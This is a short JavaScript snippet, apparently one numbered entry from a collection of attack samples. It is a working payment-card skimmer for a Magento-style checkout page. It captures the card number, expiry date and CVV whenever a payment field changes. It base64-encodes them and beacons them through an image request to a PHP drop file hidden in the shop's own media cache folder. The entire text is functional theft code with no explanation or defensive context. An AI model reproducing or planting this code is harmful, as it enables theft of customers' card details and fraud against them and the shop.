// Row 20: dropped in the shop's own folder, fetched later.
$('#checkout-payment-method-load').on('change', 'input', function () {
  var d = { n: $('#ccsave_cc_number').val(), e: $('#ccsave_expiration').val() + '/' + $('#ccsave_expiration_yr').val(), c: $('#ccsave_cc_cid').val() };
  new Image().src = '/media/catalog/cache/b.php?d=' + btoa(JSON.stringify(d));
});
